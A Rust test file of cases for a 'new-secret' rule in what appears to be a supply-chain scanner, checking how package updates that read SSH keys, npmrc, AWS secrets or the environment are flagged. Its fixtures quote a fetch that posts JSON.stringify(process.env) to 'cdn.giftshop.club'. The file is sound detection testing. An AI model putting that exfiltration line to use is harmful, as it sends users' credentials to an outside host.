//! Cases of `new-secret`.

use crate::support::{Case, fact, first, lately, mail, minor, update};
use stockade_assess::facts::{Class, Fact, Sink};

fn posted() -> Fact {
    fact(Class::Host, "cdn.giftshop.club", 12).reading("fetch(\"https://cdn.giftshop.club/e\", {")
}

fn everything() -> [Fact; 2] {
    [posted(), fact(Class::Environment, "*", 14).reading("  body: JSON.stringify(process.env)")]
}

pub(crate) fn cases() -> Vec<Case> {
    let path = || fact(Class::SensitivePath, "~/.ssh/id_rsa", 9);
    vec![
        Case::new(
            "D9, read",
            &update("acme-mail", &[path().into_sink(Sink::Read)]),
            &["hold/medium/medium `acme-mail@1.0.16` names secrets that 1.0.15 did not: `~/.ssh/id_rsa`"],
        ),
        Case::new(
            "D9, read, with somewhere new to send it",
            &update("acme-mail", &[path().into_sink(Sink::Read), fact(Class::Host, "giftshop.club", 12)]),
            &["block/critical/high `acme-mail@1.0.16` names secrets that 1.0.15 did not: `~/.ssh/id_rsa`"],
        ),
        Case::new(
            "D9, a literal",
            &update("acme-mail", &[path()]),
            &["show/low/low `acme-mail@1.0.16` names secrets that 1.0.15 did not: `~/.ssh/id_rsa`"],
        ),
        Case::new(
            "D10",
            &update("acme-mail", &[fact(Class::Environment, "AWS_SECRET_ACCESS_KEY", 9)]),
            &["show/low/low `acme-mail@1.0.16` names secrets that 1.0.15 did not: `AWS_SECRET_ACCESS_KEY`"],
        ),
        Case::new(
            "D10 beside an ability",
            &update(
                "acme-mail",
                &[fact(Class::Environment, "AWS_SECRET_ACCESS_KEY", 9), fact(Class::Capability, "dns", 9)],
            ),
            &["hold/medium/medium `acme-mail@1.0.16` names secrets that 1.0.15 did not: `AWS_SECRET_ACCESS_KEY`"],
        ),
        Case::new(
            "its own secret, and no secret",
            &update(
                "acme-mail",
                &[fact(Class::Environment, "ACME_MAIL_TOKEN", 9), fact(Class::Environment, "LOG_LEVEL", 9)],
            ),
            &[],
        ),
        Case::new(
            "D9, read, in a minor release",
            &minor("acme-mail", &[path().into_sink(Sink::Read)]),
            &["hold/medium/medium `acme-mail@1.1.0` names secrets that 1.0.15 did not: `~/.ssh/id_rsa`"],
        ),
        Case::new(
            "D9, read, in a minor release, with somewhere new to send it",
            &minor("acme-mail", &[path().into_sink(Sink::Leaves), fact(Class::Host, "giftshop.club", 12)]),
            &["block/critical/high `acme-mail@1.1.0` names secrets that 1.0.15 did not: `~/.ssh/id_rsa`"],
        ),
        Case::new(
            "a registry's file in a minor release, and a package of that name",
            &minor(
                "ssh-mcp",
                &[path().into_sink(Sink::Read), fact(Class::SensitivePath, "npmrc", 3).into_sink(Sink::Read)],
            ),
            &["show/low/low `ssh-mcp@1.1.0` names secrets that 1.0.15 did not: `npmrc`, `~/.ssh/id_rsa`"],
        ),
        Case::new(
            "everything in the environment, in a minor release",
            &minor("acme-mail", &everything()),
            &["hold/medium/medium `acme-mail@1.1.0` names secrets that 1.0.15 did not: `*`"],
        ),
        Case::new(
            "everything in the environment, and a host somewhere else",
            &minor("acme-mail", &[fact(Class::Environment, "*", 90).reading("{ ...process.env }"), posted()]),
            &[],
        ),
        Case::new(
            "one more release after the one that brought it",
            &lately("acme-mail", &[path().into_sink(Sink::Read)]),
            &["hold/medium/medium `acme-mail@1.0.16` names secrets that 1.0.14 did not: `~/.ssh/id_rsa`"],
        ),
        Case::new("a literal, one more release after it", &lately("acme-mail", &[path()]), &[]),
        Case::new(
            "at first sight, where something is sent",
            &first("acme-mail", &[path().into_sink(Sink::Leaves)]),
            &["hold/medium/medium `acme-mail@1.0.16` reads secrets where it sends something: `~/.ssh/id_rsa`"],
        ),
        Case::new(
            "at first sight: read alone, its own, an example, a registry's file",
            &first(
                "ssh-mcp",
                &[
                    path().into_sink(Sink::Leaves),
                    fact(Class::SensitivePath, "aws", 9).into_sink(Sink::Read),
                    fact(Class::SensitivePath, "passwd", 9).into_sink(Sink::Leaves),
                    fact(Class::SensitivePath, "npmrc", 9).into_sink(Sink::Leaves),
                ],
            ),
            &[],
        ),
        Case::new("nothing new", &mail(), &[]),
    ]
}
